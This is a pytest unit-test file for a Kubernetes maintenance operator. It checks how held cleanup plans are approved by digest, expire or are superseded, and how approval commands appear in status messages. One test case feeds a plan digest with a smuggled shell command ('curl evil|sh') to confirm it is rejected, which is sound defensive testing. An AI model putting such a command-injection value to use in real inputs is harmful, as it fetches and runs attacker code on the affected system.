from __future__ import annotations

import dataclasses
import json
import re
import shlex
from datetime import datetime, timedelta
from typing import Any

import pytest

from housekeeper_api.conditions import RunState
from housekeeper_api.maintenance_run import MaintenanceRun
from housekeeper_operator.decisions import conditions, policy_status, run_status
from housekeeper_operator.decisions.approval import Successor, successor_of
from housekeeper_operator.decisions.history import surplus
from housekeeper_operator.decisions.lifecycle import decide
from housekeeper_operator.decisions.step import Decision, PolicyView
from housekeeper_operator.decisions.totals import count
from tests.unit.operator.builders import NOW, RunBuilder, ago, held_result, job, later, pod, policy, result, run

DIGEST = f"sha256:{'a' * 64}"
OTHER = f"sha256:{'b' * 64}"
NEWER = Successor("run-2", carried_out=False)
DONE = Successor("run-2", carried_out=True)
HELD = run().held(ago(hours=1), DIGEST)


def step(
    of: RunBuilder,
    *,
    policy: PolicyView | None = policy(),  # noqa: B008 a frozen value
    successor: Successor | None = None,
    now: datetime = NOW,
) -> Decision:
    return decide(of.view(), policy, None, [], "", now, successor=successor)


def ending(of: RunBuilder, message: str, *, view: PolicyView | None = policy()) -> Decision:  # noqa: B008 a frozen value
    """The step after the worker of a running attempt said `message`."""
    worker = pod().on("node-a").exited(4, message=message).failed()
    return decide(of.view(), view, job().failed().view(), [worker.view()], "", NOW)


def running(**status: Any) -> RunBuilder:
    return run().running(ago(minutes=1)).status(mode="Enforce", **status)


def changes(decision: Decision) -> dict[str, Any]:
    return {
        field.name: value
        for field in dataclasses.fields(Decision)
        if field.name != "message" and (value := getattr(decision, field.name)) != field.default
    }


# How a plan comes to be held, and what the run says.


def test_a_held_plan_waits_and_the_run_says_what_it_is_and_how_to_approve_it() -> None:
    said = f"75 % of the selected files would go; to carry out exactly this, approve {DIGEST}; more than 50 %"
    decision = ending(running(), held_result(said))
    assert decision.state is RunState.HELD
    assert decision.message == (
        "75 % of the selected files would go; more than 50 %. Held are 7 items (7.0 KiB). To carry out "
        "exactly this plan: kubectl -n team patch mrun run-1 --type=merge "
        f"""-p '{{"spec":{{"approve":"{DIGEST}"}}}}' It expires 2026-11-29T12:00:00Z."""
    )
    after = running().patched(run_status.status_after(running().obj, running().view(), decision, [], NOW))
    succeeded = next(item for item in after.obj["status"]["conditions"] if item["type"] == "Succeeded")
    assert (succeeded["status"], succeeded["reason"]) == ("Unknown", "Held")
    assert "completionTime" not in after.obj["status"]
    assert after.view().digest == DIGEST
    assert (after.view().active, after.view().terminal) == (False, False)


def test_the_command_is_whole_however_much_the_worker_says() -> None:
    decision = ending(running(), held_result("x" * 5000))
    assert f'{{"approve":"{DIGEST}"}}' in decision.message
    assert len(decision.message) <= conditions.MAX_MESSAGE


@pytest.mark.parametrize(
    ("of", "message", "words"),
    [
        (running(), held_result(planDigest=""), "70 %"),
        (running(), held_result(planDigest=f"{DIGEST}'; curl evil|sh; '"), "70 %"),
        (running(), held_result(planStored=""), "could not be stored"),
        (run().running(ago(minutes=1)).status(mode="DryRun"), held_result(planStored=""), "would be held"),
        (running(), "no result at all", "A brake tripped"),
    ],
    ids=["without a digest", "no digest", "not stored", "dry", "numbers lost"],
)
def test_what_cannot_be_approved_on_this_run_fails_at_once(of: RunBuilder, message: str, words: str) -> None:
    decision = ending(of, message)
    assert (decision.state, decision.reason) == (RunState.FAILED, "Held")
    assert words in decision.message
    assert "evil" not in decision.message


def manifest_in(message: str) -> Any:
    """What the command in a message would create."""
    command = re.search(r"echo '(.*?)' \| kubectl create -f -", message)
    assert command is not None, message
    [words] = [shlex.split(command[0])]
    return json.loads(words[1])


def test_the_command_is_whole_wherever_the_message_is_told() -> None:
    of = run("r" * 63).running(ago(minutes=1)).status(mode="DryRun").of("CleanupPolicy", "p" * 47)
    decision = ending(of, held_result("x" * 5000))
    after = of.patched(run_status.status_after(of.obj, of.view(), decision, [], NOW))
    status = count({}, [(after.view(), after.obj)])
    degraded = policy_status.degraded(status, 1)["message"]
    told = [
        after.view().message,
        after.obj["status"]["attempts"][-1]["message"],
        status["lastRun"]["message"],
        degraded,
    ]
    for message in told:
        assert len(message) <= conditions.MAX_MESSAGE
        assert manifest_in(message)["spec"]["approve"] == DIGEST


def test_a_dry_runs_stored_plan_is_approved_by_another_run() -> None:
    decision = ending(run().running(ago(minutes=1)).status(mode="DryRun"), held_result())
    made = manifest_in(decision.message)
    assert made["spec"] == {"policyRef": {"kind": "CleanupPolicy", "name": "backups"}, "approve": DIGEST}
    made["metadata"]["name"] = made["metadata"].pop("generateName") + "x"
    MaintenanceRun.from_object(made)


def test_an_approved_attempt_that_is_held_anew_says_how_to_approve_the_new_plan() -> None:
    of = (
        run()
        .approving(OTHER)
        .held(ago(hours=1), OTHER)
        .attempt("job-2", startTime="2026-11-22T11:59:00Z", approved=OTHER)
    )
    decision = ending(of.state(RunState.RUNNING), held_result("The approved plan is lost"))
    assert decision.state is RunState.HELD
    assert "spec.approve is used up" in decision.message
    assert manifest_in(decision.message)["spec"]["approve"] == DIGEST
    assert decision.message.endswith("It expires 2026-11-29T11:59:00Z."), "another run's worker counts from the start"


def test_a_cancelled_run_is_not_held() -> None:
    assert ending(running().cancelled(), held_result()).state is RunState.CANCELLED


# What becomes of it.


def test_a_held_run_waits_until_it_expires() -> None:
    assert changes(step(HELD)) == {"again": ago(hours=1) + timedelta(days=7)}


def test_an_approval_is_a_new_attempt() -> None:
    assert changes(step(HELD.approving(DIGEST))) == {"start_attempt": 2}


@pytest.mark.parametrize("state", ["suspended", "late"])
def test_an_approval_counts_while_the_schedule_rests_and_although_nobody_saw_it_in_time(state: str) -> None:
    view = policy(suspended=True) if state == "suspended" else policy(hold_for=timedelta(minutes=1))
    assert step(HELD.approving(DIGEST), policy=view).start_attempt == 2


@pytest.mark.parametrize(
    ("approve", "view", "reason", "words"),
    [
        (OTHER, policy(), "WrongDigest", "cannot be changed"),
        (DIGEST, policy(mode="DryRun"), "PolicyIsDryRun", "in mode Enforce again"),
        (DIGEST, policy(problem="spec.timeZone: no such zone"), "InvalidSpec", "spec.timeZone: no such zone"),
    ],
)
def test_what_is_in_the_way_of_an_approval_is_told_once(
    approve: str, view: PolicyView, reason: str, words: str
) -> None:
    decision = step(HELD.approving(approve), policy=view)
    assert decision.waiting is not None
    assert decision.waiting[0] == reason
    assert words in decision.waiting[1]
    assert (decision.state, decision.start_attempt) == (None, 0)
    told = HELD.approving(approve).status(queue={"reason": reason, "message": decision.waiting[1]})
    assert step(told, policy=view).waiting is None


def test_the_right_digest_is_in_the_refusal_of_a_wrong_one() -> None:
    decision = step(HELD.approving(OTHER))
    assert decision.waiting is not None
    assert manifest_in(decision.waiting[1])["spec"]["approve"] == DIGEST
    assert len(decision.waiting[1]) <= run_status.MAX_ATTEMPT_MESSAGE


@pytest.mark.parametrize("view", [policy(mode="DryRun"), policy(problem="spec.timeZone: no such zone")])
def test_an_approval_that_has_to_wait_does_not_expire(view: PolicyView) -> None:
    decision = step(HELD.approving(DIGEST), policy=dataclasses.replace(view, hold_for=timedelta(minutes=1)))
    assert (decision.state, decision.again) == (None, None)
    assert decision.waiting is not None


@pytest.mark.parametrize(
    ("view", "reason"),
    [(policy(mode="DryRun"), "PolicyIsDryRun"), (policy(problem="spec.timeZone: no such zone"), "InvalidSpec")],
)
def test_an_approval_in_the_queue_is_not_spent_on_a_policy_that_was_edited(view: PolicyView, reason: str) -> None:
    queued = HELD.approving(DIGEST).queued("job-2").status(queue={"reason": "VolumeBusy", "message": "Waits."})
    decision = decide(queued.view(), view, job("job-2").view(), [], "", NOW)
    assert (decision.state, decision.delete_job) == (RunState.HELD, True)
    back = queued.patched(run_status.status_after(queued.obj, queued.view(), decision, [], NOW))
    assert [one["job"] for one in back.obj["status"]["attempts"]] == ["job-1"]
    assert back.view().queue_reason == reason
    assert changes(step(back, policy=dataclasses.replace(view, hold_for=timedelta()))) == {}, (
        "it waits, and says so once"
    )
    assert changes(step(back)) == {"start_attempt": 2}
    again = back.patched(run_status.queued_again(back.obj, back.view(), "job-2", NOW))
    assert (again.view().state, again.view().queue_reason) == (RunState.QUEUED, "")


def test_what_was_carried_out_in_part_does_not_go_back_to_wait() -> None:
    tried = HELD.approving(DIGEST).attempt("job-2", startTime="2026-11-22T11:50:00Z", result="Failed", approved=DIGEST)
    queued = tried.queued("job-3")
    decision = decide(queued.view(), policy(mode="DryRun"), job("job-3").view(), [], "", NOW)
    assert (decision.state, decision.reason) == (RunState.FAILED, "LessDryThanPolicy")


def test_a_used_approval_starts_nothing() -> None:
    of = run().approving(DIGEST).held(ago(hours=1), DIGEST, approved=OTHER)
    assert step(of).start_attempt == 0


@pytest.mark.parametrize(
    ("of", "options", "state", "words"),
    [
        (HELD.cancelled(), {}, RunState.CANCELLED, "Cancelled while its plan was held"),
        (HELD.cancelled().approving(DIGEST), {}, RunState.CANCELLED, "Cancelled while its plan was held"),
        (HELD, {"policy": None}, RunState.CANCELLED, "was deleted"),
        (HELD, {"successor": NEWER}, RunState.SUPERSEDED, "Run run-2 made a newer plan"),
        (HELD, {"successor": DONE}, RunState.SUPERSEDED, "Run run-2 carried out this plan"),
        (HELD, {"policy": policy(hold_for=timedelta(hours=1))}, RunState.EXPIRED, "spec.holdFor"),
        (HELD.approving(OTHER), {"policy": policy(hold_for=timedelta(hours=1))}, RunState.EXPIRED, "spec.holdFor"),
    ],
)
def test_a_held_run_ends(of: RunBuilder, options: dict[str, Any], state: RunState, words: str) -> None:
    decision = step(of, **options)
    assert decision.state is state
    assert words in decision.message
    after = of.patched(run_status.status_after(of.obj, of.view(), decision, [], NOW))
    assert after.view().terminal
    assert after.obj["status"]["durationSeconds"] == 60, "the hours in which it was held are no duration"


@pytest.mark.parametrize(
    ("before", "said"),
    [
        ({"removed": 500}, "Earlier attempts removed 500 items."),
        ({"removed": 0, "quarantined": 3}, "Earlier attempts removed 0 items and quarantined 3."),
        ({"removed": 0, "purged": 3}, "Earlier attempts removed 3 items."),
        ({"removed": 0}, "Nothing was removed."),
    ],
)
def test_a_held_run_says_what_its_earlier_attempts_removed(before: dict[str, int], said: str) -> None:
    of = HELD.status(result={"cleanup": {**HELD.obj["status"]["result"]["cleanup"], **before}})
    ends: list[dict[str, Any]] = [{"successor": NEWER}, {"policy": policy(hold_for=timedelta(hours=1))}]
    messages = [step(of, **options).message for options in ends] + [step(of.cancelled()).message]
    assert [message.endswith(said) for message in messages] == [True] * 3
    again = running(result={"cleanup": before})
    assert (said in ending(again, held_result()).message) == (said != "Nothing was removed.")


def test_a_policy_with_a_mistake_lets_no_plan_expire() -> None:
    assert changes(step(HELD, policy=policy(problem="…", hold_for=timedelta()))) == {}


def test_an_approved_run_lasts_as_long_as_its_attempts() -> None:
    of = HELD.approving(DIGEST).attempt("job-2", startTime="2026-11-22T11:58:00Z", approved=DIGEST)
    decision = Decision(state=RunState.SUCCEEDED, reason="Succeeded", message="Done.")
    after = of.patched(run_status.status_after(of.obj, of.view(), decision, [], NOW))
    assert after.obj["status"]["durationSeconds"] == 60 + 120


def test_an_approval_is_tried_as_often_as_a_run() -> None:
    of = run().attempt("job-0", completionTime="2026-11-22T10:00:00Z", result="Failed").held(ago(hours=1), DIGEST)
    of = (
        of.approving(DIGEST).attempt("job-2", startTime="2026-11-22T11:59:00Z", approved=DIGEST).state(RunState.RUNNING)
    )
    failed = ending(of, result("Failed", "An I/O error."), view=policy(attempts=2))
    assert failed.state is RunState.BACKOFF
    assert failed.message.startswith("Attempt 1 of 2 failed")
    again = of.attempt("job-3", startTime="2026-11-22T11:59:30Z", approved=DIGEST)
    assert ending(again, result("Failed", "An I/O error."), view=policy(attempts=2)).state is RunState.FAILED


def test_a_run_made_with_an_approval_is_never_dry() -> None:
    refused = step(run().approving(DIGEST), policy=policy(mode="DryRun"))
    assert (refused.state, refused.reason) == (RunState.FAILED, "LessDryThanPolicy")
    queued = run().approving(DIGEST).queued()
    refused = decide(queued.view(), policy(mode="DryRun"), job().view(), [], "", NOW)
    assert (refused.state, refused.reason, refused.delete_job) == (RunState.FAILED, "LessDryThanPolicy", True)
    assert step(run().approving(DIGEST)).start_attempt == 1


def test_history_lets_no_held_run_go() -> None:
    assert surplus([HELD.recorded().view()], succeeded=0, failed=0, ttl=timedelta(0), now=later(days=999)) == ([], None)


# What supersedes it.


def other(name: str = "run-2", **status: Any) -> RunBuilder:
    """Another run of the policy, which planned and ended after the held one."""
    told = {"mode": "Enforce", "result": {"cleanup": {"planDigest": OTHER}}, **status}
    attempt = run(name).attempt(
        "job-9", startTime="2026-11-22T11:30:00Z", completionTime="2026-11-22T11:31:00Z", result="Succeeded"
    )
    return attempt.ended(RunState.SUCCEEDED, ago(minutes=29), **told)


def approving(state: RunState, digest: str) -> RunBuilder:
    """A run by hand that was given the plan of DIGEST, and told `digest`."""
    of = run("run-2").attempt(
        "job-9", startTime="2026-11-22T11:30:00Z", completionTime="2026-11-22T11:31:00Z", approved=DIGEST
    )
    return of.ended(state, NOW, mode="Enforce", result={"cleanup": {"planDigest": digest}})


@pytest.mark.parametrize(
    ("of", "expected"),
    [
        (other(), NEWER),
        (run("run-2").held(ago(minutes=5), OTHER), NEWER),
        (run("run-2").held(ago(hours=2), OTHER), None),
        (other(mode="DryRun"), None),
        (other(result={"cleanup": {}}), None),
        (other(result=None), None),
        (run("run-2").running(ago(minutes=1)), None),
        (approving(RunState.SUCCEEDED, DIGEST), DONE),
        (approving(RunState.FAILED, DIGEST), None),
        (approving(RunState.SUCCEEDED, OTHER), NEWER),
        (HELD, None),
    ],
    ids=[
        "a run that planned later",
        "a later held one",
        "an earlier held one",
        "a dry run",
        "a run that came to no plan",
        "a run without numbers",
        "a run under way",
        "the plan was carried out",
        "the plan was tried",
        "the plan was lost, and another made",
        "itself",
    ],
)
def test_a_later_plan_supersedes_a_held_one(of: RunBuilder, expected: Successor | None) -> None:
    assert successor_of(HELD.view(), [HELD.view(), of.view()]) == expected


def test_of_two_held_plans_exactly_one_is_superseded() -> None:
    same_second = [run("run-1").held(ago(hours=1), DIGEST).view(), run("run-2").held(ago(hours=1), OTHER).view()]
    assert [successor_of(one, same_second) is None for one in same_second] == [False, True]


# What the policy says.


def test_the_policy_names_the_newest_held_run() -> None:
    newest = run("run-2").created(NOW).held(NOW, OTHER)
    held = policy_status.held([newest.view(), HELD.view(), other("run-3").view()], 1)
    assert (held["status"], held["reason"], held["message"]) == ("True", "PlanHeld", "Run run-2: …")
    assert policy_status.held([other().view()], 1)["status"] == "False"
